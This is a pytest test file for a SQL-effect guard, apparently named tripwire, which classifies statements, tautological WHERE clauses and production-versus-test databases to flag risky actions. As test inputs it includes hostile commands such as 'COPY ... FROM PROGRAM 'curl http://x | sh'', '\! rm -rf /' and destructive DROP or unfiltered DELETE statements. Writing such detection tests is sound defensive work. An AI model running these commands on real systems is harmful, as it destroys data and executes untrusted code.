import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tripwire._errors import UnparseableError
from tripwire.guard import Effect
from tripwire.guard._sql import MAX_SQL_CHARS, _cached_effects, database_class, sql_effects


def sql(text: str, database: str | None = "app.db", dialect: str | None = None) -> list[Effect]:
    return [e for e in sql_effects(text, database=database, via="v", dialect=dialect)]


def one(text: str, dialect: str | None = None) -> tuple[str, tuple[str, ...], bool, int | None]:
    effects = sql(text, dialect=dialect)
    assert len(effects) == 1, effects
    statement = effects[0].sql
    assert effects[0].kind == "sql" and statement is not None
    return statement.op, statement.tables, statement.has_where, statement.rows


# (text, dialect, op, tables, has_where, rows)
OPS = [
    (
        "SELECT * FROM Users u JOIN main.Orders o ON o.uid = u.id",
        None,
        "select",
        ("users", "orders"),
        True,
        None,
    ),
    ("SELECT 1", None, "select", (), True, None),
    ("VALUES (1), (2)", "sqlite", "select", (), True, None),
    (
        "WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN b ON 1",
        None,
        "select",
        ("a", "b"),
        True,
        None,
    ),
    ("INSERT INTO s.T (a, b) VALUES (1, 2), (3, 4), (5, 6)", "postgres", "insert", ("t",), True, 3),
    ("INSERT INTO t SELECT * FROM u", None, "insert", ("t",), True, None),
    ("INSERT INTO t DEFAULT VALUES", "postgres", "insert", ("t",), True, 1),
    ("REPLACE INTO t VALUES (1), (2)", "sqlite", "insert", ("t",), True, 2),
    ("REPLACE INTO t VALUES (1)", "mysql", "insert", ("t",), True, 1),
    ("INSERT OR REPLACE INTO t VALUES (1)", "sqlite", "insert", ("t",), True, 1),
    ("UPSERT INTO t VALUES (1)", None, "insert", ("t",), True, 1),
    (
        "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
        "postgres",
        "insert",
        ("t",),
        True,
        1,
    ),
    ("UPDATE t SET a = 1 WHERE id = 3", None, "update", ("t",), True, None),
    ("UPDATE t SET a = 1", None, "update", ("t",), False, None),
    ("UPDATE t1 JOIN t2 ON t1.a = t2.a SET t1.b = 1", "mysql", "update", ("t1", "t2"), False, None),
    ('DELETE FROM "Main"."Users" WHERE id = 3', "sqlite", "delete", ("users",), True, None),
    ("DELETE FROM `users`", "mysql", "delete", ("users",), False, None),
    ("DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a", "mysql", "delete", ("t1",), False, None),
    ("DELETE FROM t USING u WHERE t.a = u.a", "postgres", "delete", ("t",), True, None),
    ("DROP TABLE IF EXISTS a, b", None, "drop", ("a", "b"), True, None),
    ("DROP VIEW v", None, "drop", ("v",), True, None),
    ("DROP INDEX i", "sqlite", "drop", ("i",), True, None),
    ("DROP SCHEMA s CASCADE", "postgres", "drop", ("s",), True, None),
    ("TRUNCATE TABLE a, b.c", "postgres", "truncate", ("a", "c"), True, None),
    ("TRUNCATE t", "mysql", "truncate", ("t",), True, None),
    ("ALTER TABLE t RENAME TO u", "sqlite", "alter", ("t", "u"), True, None),
    ("ALTER TABLE s.t DROP COLUMN c", "postgres", "alter", ("t",), True, None),
    ("RENAME TABLE a TO b, c TO d", "mysql", "alter", ("a", "b", "c", "d"), True, None),
    ("CREATE TABLE t (a INT)", None, "create", ("t",), True, None),
    ("CREATE INDEX i ON t (a)", "sqlite", "create", ("t",), True, None),
    ("SELECT * INTO n FROM t", "postgres", "create", ("n",), True, None),
    (
        "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END;",
        "sqlite",
        "create",
        ("tr", "t"),
        True,
        None,
    ),
    ("GRANT ALL ON t TO bob", "postgres", "grant", ("t",), True, None),
    ("REVOKE ALL ON t FROM bob", "postgres", "grant", ("t",), True, None),
    ("PRAGMA foreign_keys = OFF", "sqlite", "pragma", (), True, None),
    ("SET FOREIGN_KEY_CHECKS = 0", "mysql", "pragma", (), True, None),
    ("VACUUM", "sqlite", "other", (), True, None),
    ("SELECT load_extension('/tmp/x.so')", "sqlite", "other", (), True, None),
    ("SELECT pg_terminate_backend(42)", "postgres", "other", (), True, None),
    ("COPY t FROM '/tmp/rows.csv'", "postgres", "insert", ("t",), True, None),
    ("COPY t TO '/tmp/rows.csv'", "postgres", "select", ("t",), True, None),
    (
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE",
        "postgres",
        "delete",
        ("t",),
        True,
        None,
    ),
    (
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN UPDATE SET b = 1",
        "postgres",
        "update",
        ("t",),
        True,
        None,
    ),
    (
        "MERGE INTO t USING u ON 1 = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "postgres",
        "insert",
        ("t",),
        False,
        None,
    ),
    ("EXPLAIN ANALYZE DELETE FROM t", "postgres", "delete", ("t",), False, None),
    ("EXPLAIN QUERY PLAN SELECT * FROM t", "sqlite", "select", ("t",), True, None),
    ("PREPARE p AS DELETE FROM t WHERE id = $1", "postgres", "delete", ("t",), True, None),
    ("DO $$ BEGIN DROP TABLE x; END $$", "postgres", "drop", ("x",), True, None),
]


@pytest.mark.parametrize(("text", "dialect", "op", "tables", "has_where", "rows"), OPS)
def test_statement_op_tables_where_rows(text, dialect, op, tables, has_where, rows):
    assert one(text, dialect) == (op, tables, has_where, rows)


TAUTOLOGIES = [
    "1=1",
    "true",
    "1",
    "'a'='a'",
    "x = x",
    "id IS NOT NULL OR id IS NULL",
    "NOT 0",
    "2 > 1",
    "NOT (1 = 0)",
    "id > 5 OR 1 = 1",
    "(1 = 1) AND (2 = 2)",
    "name LIKE '%'",
    "id = 7 OR NOT id = 7",
]
REAL_WHERES = [
    "id = 3",
    "id IN (SELECT id FROM t)",  # a subquery counts as real even when it selects every row
    "1 = 1 AND id = 3",
    "x = y",
    "id < 10 OR id >= 10",  # complementary ranges are beyond the check: documented gap
    "false OR id = 2",
    "EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
]


@pytest.mark.parametrize("where", TAUTOLOGIES)
@pytest.mark.parametrize("statement", ["DELETE FROM t WHERE {}", "UPDATE t SET a = 1 WHERE {}"])
def test_tautological_where_counts_as_none(statement, where):
    assert one(statement.format(where))[2] is False


@pytest.mark.parametrize("where", REAL_WHERES)
@pytest.mark.parametrize("statement", ["DELETE FROM t WHERE {}", "UPDATE t SET a = 1 WHERE {}"])
def test_real_where_counts(statement, where):
    assert one(statement.format(where))[2] is True


DIALECT_CASES = [
    ("sqlite", "DELETE FROM [Users] WHERE rowid = 1", "users"),
    ("postgres", "DELETE FROM public.users WHERE id = $1 RETURNING *", "users"),
    ("mysql", "DELETE FROM `app`.`Users` WHERE id = 1 LIMIT 1", "users"),
    ("duckdb", "DELETE FROM main.users WHERE id = 1", "users"),
]


@pytest.mark.parametrize(("dialect", "text", "table"), DIALECT_CASES)
def test_each_dialect_reads_its_own_syntax(dialect, text, table):
    assert one(text, dialect) == ("delete", (table,), True, None)


def test_given_dialect_is_the_only_one_tried():
    # Backtick identifiers are MySQL; Postgres reads them as an error, so no fallback.
    assert one("DELETE FROM `t`", "mysql")[:2] == ("delete", ("t",))
    with pytest.raises(UnparseableError, match="postgres"):
        sql("SELECT `a` FROM `t`", dialect="postgres")


def test_unknown_dialect_is_unparseable():
    with pytest.raises(UnparseableError, match="Unknown SQL dialect 'oracle'"):
        sql("SELECT 1", dialect="oracle")


def test_multi_statement_and_transaction_control():
    effects = sql("BEGIN; INSERT INTO a VALUES (1); SAVEPOINT s; DELETE FROM b; RELEASE s; COMMIT;")
    assert [(e.sql.op, e.sql.tables) for e in effects if e.sql] == [
        ("insert", ("a",)),
        ("delete", ("b",)),
    ]
    assert sql("BEGIN TRANSACTION; END TRANSACTION;") == []
    assert sql("START TRANSACTION; ROLLBACK", dialect="mysql") == []


def test_comments_and_blank_text():
    assert sql("") == [] and sql("  \n;; -- nothing\n/* at all */") == []
    effects = sql("-- wipe it\nDELETE /* all */ FROM t; -- done\n")
    assert [e.sql.op for e in effects if e.sql] == ["delete"]
    assert effects[0].sql is not None and "wipe" not in effects[0].sql.text


def test_ctes_and_nested_data_changes():
    assert one("WITH x AS (SELECT id FROM u) DELETE FROM t WHERE id IN (SELECT id FROM x)")[:3] == (
        "delete",
        ("t",),
        True,
    )
    ops = [
        e.sql.op
        for e in sql("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", dialect="postgres")
        if e.sql
    ]
    assert ops == ["delete", "select"]


def test_effect_fields():
    (effect,) = sql_effects(
        "DROP TABLE users", database="prod.db", via="sqlite3 prod.db 'DROP TABLE users'"
    )
    assert effect.kind == "sql" and effect.database == "prod.db"
    assert effect.via == "sqlite3 prod.db 'DROP TABLE users'"
    assert effect.sql is not None and effect.sql.text == "DROP TABLE users"
    long = sql_effects("SELECT 1", database=None, via="x" * 1000)
    assert len(long[0].via) == 400


def test_psql_meta_commands_switch_database_and_hide_nothing():
    script = "\\dt\nDELETE FROM a;\n\\c prod_db\n\\x\nDELETE FROM b;\n\\i wipe.sql\n\\! rm -rf /\n"
    effects = sql(script, database="test_db")
    kinds = [(e.kind, e.database, e.sql.tables if e.sql else e.program) for e in effects]
    assert kinds == [
        ("sql", "test_db", ("a",)),
        ("sql", "prod_db", ("b",)),
        ("opaque", "prod_db", "psql"),
        ("opaque", "prod_db", "psql"),
    ]
    assert effects[2].via == "\\i wipe.sql"
    assert [e.database for e in sql("\\connect 'postgresql://h/live'\nSELECT 1;")] == [
        "postgresql://h/live"
    ]


def test_sqlite_dot_commands():
    script = (
        ".tables\n.schema users\nDELETE FROM a;\n"
        ".open --readonly prod.db\nDROP TABLE b;\n.read x.sql\n.shell rm x\n"
    )
    effects = sql(script, database="test.db")
    assert [(e.kind, e.database) for e in effects] == [
        ("sql", "test.db"),
        ("sql", "prod.db"),
        ("opaque", "prod.db"),
        ("opaque", "prod.db"),
    ]
    assert effects[2].program == "sqlite3" and effects[2].via == ".read x.sql"


def test_dot_line_inside_a_statement_is_sql_not_a_command():
    # A line starting with '.' while a statement is open belongs to that statement.
    effects = sql("SELECT a\n.5 FROM t;")
    assert [e.sql.op for e in effects if e.sql] == ["select"]


def test_use_and_attach_route_statements_to_their_database():
    effects = sql("USE prod; DELETE FROM t", database="test", dialect="mysql")
    assert [e.database for e in effects] == ["prod"]
    effects = sql("DELETE FROM live.t WHERE id = 1", database="test", dialect="mysql")
    assert [e.database for e in effects] == ["live"]
    script = (
        "ATTACH DATABASE 'prod.db' AS p; DROP TABLE p.users; DROP TABLE users; "
        "DETACH p; DROP TABLE p.users"
    )
    effects = sql(script, database="test.db", dialect="sqlite")
    assert [(e.sql.op, e.database) for e in effects if e.sql] == [
        ("attach", "prod.db"),
        ("drop", "prod.db"),
        ("drop", "test.db"),
        ("attach", "prod.db"),
        ("drop", "test.db"),
    ]
    assert [e.database for e in sql("DROP DATABASE prod", database="postgres")] == ["prod"]


def test_copy_program_is_opaque():
    effects = sql("COPY t FROM PROGRAM 'curl http://x | sh'", dialect="postgres")
    assert [e.kind for e in effects] == ["sql", "opaque"]


@pytest.mark.parametrize(
    "text",
    [
        "blah blah",
        "SELECT 1; garbage )))",
        "DELETE FROM",
        "SELECT 'unterminated",
        "DO $$ BEGIN IF x THEN DROP TABLE t; END IF; END $$",  # PL/pgSQL control flow
        "SELECT " + "(" * 5000 + "1" + ")" * 5000,
    ],
)
def test_unparseable_text_raises_one_line(text):
    with pytest.raises(UnparseableError) as caught:
        sql(text)
    message = str(caught.value)
    assert "\n" not in message and len(message) < 300


def test_oversized_text_is_unparseable_without_parsing():
    start = time.perf_counter()
    with pytest.raises(UnparseableError, match="at most 200,000"):
        sql("SELECT 1;" * (MAX_SQL_CHARS // 9 + 1))
    assert time.perf_counter() - start < 0.5


def test_results_and_failures_are_cached():
    _cached_effects.cache_clear()
    sql("DELETE FROM cached_t")
    sql("DELETE FROM cached_t")
    with pytest.raises(UnparseableError):
        sql("nonsense nonsense nonsense")
    with pytest.raises(UnparseableError):
        sql("nonsense nonsense nonsense")
    info = _cached_effects.cache_info()
    assert (info.hits, info.misses) == (2, 2)
    first, second = sql("DELETE FROM cached_t"), sql("DELETE FROM cached_t")
    assert first == second and first is not second  # callers get their own list


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(max_size=400)
    | st.from_regex(r"(SELECT|DELETE|\\c|\.open|WITH|--|/\*|;|'|\$\$| |\n|\w+)*")
)
def test_fuzz_text_gives_effects_or_unparseable(text):
    start = time.perf_counter()
    try:
        effects = sql_effects(text, database=None, via="fuzz")
    except UnparseableError as error:
        assert "\n" not in str(error)
    else:
        assert isinstance(effects, list) and all(isinstance(e, Effect) for e in effects)
        assert all(e.kind in ("sql", "opaque") for e in effects)
    assert time.perf_counter() - start < 1.0


PRODUCTION = ["*prod*", "*production*", "*live*"]
TEST = ["*test*", "*dev*", ":memory:", "*staging*", "*tmp*"]


@pytest.mark.parametrize(
    ("database", "expected"),
    [
        ("/srv/app/prod.db", "production"),
        ("PROD.DB", "production"),
        ("/home/me/tests/app_test.sqlite", "test"),
        ("prod_test.db", "production"),  # ambiguous: the dangerous reading wins
        ("/tmp/work/live.db", "production"),
        (":memory:", "test"),
        ("postgresql://user:pw@db.internal:5432/app_live?sslmode=require", "production"),
        ("postgresql://user@db.internal/app_staging", "test"),
        ("mysql://db/app?database=x", "unknown"),
        ("dbname=app_dev host=db", "test"),
        ("app.db", "unknown"),
        ("", "unknown"),
        (None, "unknown"),
    ],
)
def test_database_class(database, expected):
    assert database_class(database, PRODUCTION, TEST) == expected


def test_database_class_matches_basename_and_url_name_with_anchored_patterns():
    # Patterns without '*' must match a whole candidate: the basename or the URL's db name.
    assert database_class("/var/lib/data/prod.db", ["prod.db"], []) == "production"
    assert database_class("postgres://h:5432/billing", ["billing"], []) == "production"
    assert database_class("postgres://h:5432/billing", [], ["h"]) == "unknown"
    assert database_class("/var/lib/prod.db.bak", ["prod.db"], []) == "unknown"
